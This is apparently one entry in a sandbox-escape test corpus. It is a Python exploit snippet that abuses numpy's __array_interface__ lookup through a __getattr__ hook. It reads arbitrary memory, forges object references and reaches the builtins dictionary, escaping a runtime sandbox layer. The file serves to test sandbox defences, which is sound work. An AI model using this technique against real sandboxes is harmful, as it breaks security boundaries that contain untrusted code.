# technique: a class of the snippet's with __getattr__ (a hook the runtime layer admits) answers numpy's instance lookup of __array_interface__ with an interface at any address: typestr |O forges references (runtime layer only: the validator refuses defining __getattr__)
# source: numpy PyArray_LookupSpecial_OnInstance / PyArray_FromInterface
import numpy as np

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

at = [0, '|O']
class Any:
    def __getattr__(self, name):
        if name == dn('array_interface'):
            return {'data': (at[0], False), 'shape': (1,), 'typestr': at[1], 'version': 3}
        raise AttributeError(name)
def mem(addr, typestr):
    at[0], at[1] = addr, typestr
    return np.asarray(Any())
def r64(addr): return int(mem(addr, '<u8')[0])
def fakeobj(addr):
    b = bytearray(addr.to_bytes(8, 'little'))
    return mem(r64(id(b) + 32), '|O')[0]
def builtins_dict():
    return fakeobj(r64(id(np.linalg.norm) + 24))
attempt('__getattr__ hook answering __array_interface__', builtins_dict)
